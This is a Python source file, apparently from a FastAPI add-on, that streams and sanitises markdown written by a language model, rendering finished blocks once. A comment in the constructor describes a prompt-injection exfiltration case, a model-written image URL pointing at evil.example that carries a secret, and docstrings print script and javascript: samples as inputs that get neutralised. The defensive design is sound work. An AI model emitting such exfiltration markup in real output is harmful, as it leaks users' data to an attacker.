"""Streaming markdown: render each finished top-level block once, re-render only the unfinished tail.

Model output is untrusted, so the rendered HTML is always sanitized (nh3) after markdown-it-py
has rendered it with raw HTML off: neither ``<script>`` nor a ``javascript:`` URL survives.

How a block is known to be finished, without rescanning the text: CommonMark decides where a
block starts from the line it starts on (and, for a table, from the line after it too). So once
the parse of the unfinished tail shows block *k+1* starting on a complete line *L* (a newline
follows it; if *L* has a ``|``, line *L+1* must be complete as well), nothing appended later can
move that boundary: blocks up to *k* are final. After a blank line that holds even while *L* is
still being written, unless block *k* is a list and *L* may yet continue it (see ``_finished_prefix``). Final blocks are
rendered once, sanitized, kept, and cut off the tail, so each step parses only the tail and
the whole answer costs O(n) apart from the tail block.

Deliberate divergence from plain CommonMark: link reference definitions (``[x]: /url``) are
turned off, because a definition arriving at the end would change links in blocks already sent.
They render as the literal text they are. With that, the concatenated parts always equal
:func:`render_markdown` of the whole text (property-tested over arbitrary token splits).
"""

from __future__ import annotations

import functools
import itertools
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from markupsafe import escape

from ._holdback import HOLD_LIMIT, held_from, line_offset

try:
    import nh3
    from markdown_it import MarkdownIt
    from markdown_it.token import Token
except ModuleNotFoundError as exc:  # pragma: no cover - depends on the installed extras
    raise ModuleNotFoundError(
        f"markdown rendering needs {exc.name!r}: pip install 'fastapi-fragments[markdown]'"
    ) from exc

__all__ = ("HOLD_LIMIT", "MarkdownRenderer", "MarkdownStep", "StreamingMarkdown", "render_markdown")

#: Everything markdown-it emits with raw HTML off, and nothing else.
_TAGS = {
    "a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
    "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
_ATTRIBUTES = {
    "a": {"href", "title"},
    "ol": {"start"},
    "code": {"class"},  # language-xyz from a fence's info string; a class cannot run anything
    "th": {"style"},
    "td": {"style"},
}


class MarkdownRenderer:
    """A configured markdown-it-py parser and nh3 sanitizer; build once, share between streams.

    Example::

        renderer = MarkdownRenderer()
        renderer.render("*hi* <script>")  # '<p><em>hi</em> &lt;script&gt;</p>\\n'
    """

    __slots__ = ("_clean", "_parser")

    def __init__(self) -> None:
        parser = MarkdownIt("commonmark", {"html": False})
        parser.enable(["table", "strikethrough"])
        parser.disable(["reference", "html_block", "html_inline"])
        # An image the model writes would be fetched by the browser at once, so a prompt-injected
        # ![x](https://evil.example/?q=secret) leaks data without a click: render it as a link.
        parser.add_render_rule("image", _image_as_link)
        self._parser = parser
        cleaner = nh3.Cleaner(tags=_TAGS, attributes=_ATTRIBUTES, filter_style_properties={"text-align"})
        self._clean = cleaner.clean

    def parse(self, source: str) -> list[Token]:
        """Parse ``source`` into markdown-it block tokens."""
        return self._parser.parse(source)

    def render_tokens(self, tokens: list[Token]) -> str:
        """Render a run of whole top-level blocks to sanitized HTML."""
        if not tokens:
            return ""
        return self._clean(self._parser.renderer.render(tokens, self._parser.options, {}))

    def render(self, source: str) -> str:
        """Render a whole markdown text to sanitized HTML."""
        return self.render_tokens(self.parse(source))


def _image_as_link(renderer: Any, tokens: list[Token], index: int, options: Any, env: Any) -> str:
    token = tokens[index]
    src = str(token.attrGet("src") or "")
    label = renderer.renderInlineAsText(token.children or [], options, env) or src
    return f'<a href="{escape(src)}">{escape(label)}</a>'


@functools.cache
def _default_renderer() -> MarkdownRenderer:
    # Building the parser costs ~170 µs; a stream must not pay that. The renderer is never mutated.
    return MarkdownRenderer()


def render_markdown(text: str) -> str:
    """Render ``text`` in one go, exactly as :class:`StreamingMarkdown` renders it piece by piece.

    Example::

        render_markdown("# Title\\n\\n[x](javascript:alert(1))")
        # '<h1>Title</h1>\\n<p>[x](javascript:alert(1))</p>\\n'
    """
    return _default_renderer().render(_normalize_newlines(text))


@dataclass(frozen=True, slots=True)
class MarkdownStep:
    """What changed since the previous step: ``blocks`` to append once, ``tail`` to replace the old tail.

    ``held`` is the end of the text the tail leaves out for now because what follows still
    decides what it is (``**bo``, a table header without its delimiter row, see ``_holdback``);
    it shows once decided, or when its block ends. ``first`` is where the first of ``blocks``
    ends in it (the block a page may already show as its tail) and ``tail_elements`` how many
    top-level elements ``tail`` has (a page can address one element, not a run of them).
    """

    blocks: str
    tail: str
    held: str = ""
    first: int = field(default=0, compare=False)
    tail_elements: int = field(default=0, compare=False)


class StreamingMarkdown:
    """Sans-I/O streaming markdown: ``feed`` text deltas, take a :class:`MarkdownStep` whenever ready.

    After the last delta, ``finish()`` returns every remaining block with an empty tail, and
    the concatenation of all ``blocks`` equals ``render_markdown(full_text)``.

    Example::

        md = StreamingMarkdown()
        md.feed("# Title\\n\\nFirst para")
        md.snapshot()   # MarkdownStep(blocks='', tail='<h1>Title</h1>\\n<p>First para</p>\\n')
        md.feed("graph.\\n\\nSecond\\n")
        md.snapshot()   # MarkdownStep(blocks='<h1>Title</h1>\\n<p>First paragraph.</p>\\n', tail='<p>Second</p>\\n')
        md.finish()     # MarkdownStep(blocks='<p>Second</p>\\n', tail='')
    """

    __slots__ = ("_pending_cr", "_renderer", "_source", "_tail_html")

    def __init__(self, renderer: MarkdownRenderer | None = None) -> None:
        self._renderer = renderer or _default_renderer()
        self._source = ""  # the unfinished tail of the text, newlines normalised to LF
        self._tail_html = ""
        self._pending_cr = False

    def feed(self, delta: str) -> None:
        """Add one text delta (CR and CRLF count as LF, also when a CRLF is split between deltas)."""
        if self._pending_cr and delta.startswith("\n"):
            delta = delta[1:]
        self._pending_cr = delta.endswith("\r")
        self._source += _normalize_newlines(delta)

    def snapshot(self) -> MarkdownStep:
        """Render what changed: newly finished blocks (once) and the current tail."""
        tokens = self._renderer.parse(self._source)
        hold = held_from(tokens, self._source, self._renderer.parse)
        cut = _finished_prefix(tokens, self._source)
        blocks, first = "", 0
        if cut is not None:
            index, offset = cut
            blocks, first = self._render_blocks(tokens[:index])
            self._source = self._source[offset:]
            tokens = tokens[index:]
            hold = None if hold is None else hold - offset  # the hold is in the last block: after the cut
        held = ""
        if hold is not None:
            held = self._source[hold:]
            tokens = self._renderer.parse(self._source[:hold])
        self._tail_html = self._renderer.render_tokens(tokens)
        return MarkdownStep(blocks, self._tail_html, held, first, sum(1 for _ in _starts(tokens)))

    def finish(self) -> MarkdownStep:
        """The text is complete: every remaining block is finished, the tail becomes empty."""
        blocks, first = self._render_blocks(self._renderer.parse(self._source))
        self._source = self._tail_html = ""
        return MarkdownStep(blocks, "", "", first)

    def _render_blocks(self, tokens: list[Token]) -> tuple[str, int]:
        """The HTML of finished blocks, and where the first one ends in it (rendered apart if others follow)."""
        second = next(_starts(tokens, 1), None)
        if second is None:
            html = self._renderer.render_tokens(tokens)
            return html, len(html)
        first = self._renderer.render_tokens(tokens[:second])
        return first + self._renderer.render_tokens(tokens[second:]), len(first)


def _starts(tokens: list[Token], skip: int = 0) -> Iterator[int]:
    """The indexes of the tokens that begin a top-level block, after the first ``skip`` of them."""
    starts = (index for index, token in enumerate(tokens) if token.level == 0 and token.nesting != -1)
    return itertools.islice(starts, skip, None)


def _finished_prefix(tokens: list[Token], source: str) -> tuple[int, int] | None:
    """``(token index, offset in source)`` where the provably finished blocks end, or None.

    Block *k* is finished once block *k+1* starts on a line ``L`` that nothing appended can
    take back: either ``L`` is complete (and, if it has a ``|``, so is ``L + 1``: a table
    header needs its delimiter row), or ``L`` follows a blank line and block *k* is not a list.
    A blank line closes every other block for good, while a list can go on after one (``2``
    may still become ``2. item``) unless ``L`` began with a character no item or indented
    continuation starts with.
    """
    complete_lines = source.count("\n")
    starts = [
        (index, token.map[0], token.type)
        for index, token in enumerate(tokens)
        if token.level == 0 and token.nesting != -1 and token.map is not None
    ]
    for (index, line, _), (_, _, before) in zip(reversed(starts), reversed(starts[:-1]), strict=False):
        offset = line_offset(source, line)
        complete = line < complete_lines and (
            line + 1 < complete_lines or "|" not in source[offset : source.index("\n", offset)]
        )
        after_blank = line > 0 and not source[line_offset(source, line - 1) : offset].strip(" \t\n")
        if complete or (after_blank and (before not in _LISTS or _cannot_continue_a_list(source, offset))):
            return index, offset
    return None


_LISTS = frozenset({"bullet_list_open", "ordered_list_open"})


def _cannot_continue_a_list(source: str, offset: int) -> bool:
    """Whether the line at ``offset``, after a blank line, has begun in a way no list can take.

    After a blank line a list goes on only with an indented line or a new item marker (``-``,
    ``*``, ``+``, or digits then ``.``/``)``); a line that began with anything else (a letter,
    ``#``, ``>``, a backtick...) ends it, whatever comes after on that line.
    """
    return offset < len(source) and source[offset] not in " \t-*+0123456789\n"


def _normalize_newlines(text: str) -> str:
    if "\r" in text:
        return text.replace("\r\n", "\n").replace("\r", "\n")
    return text
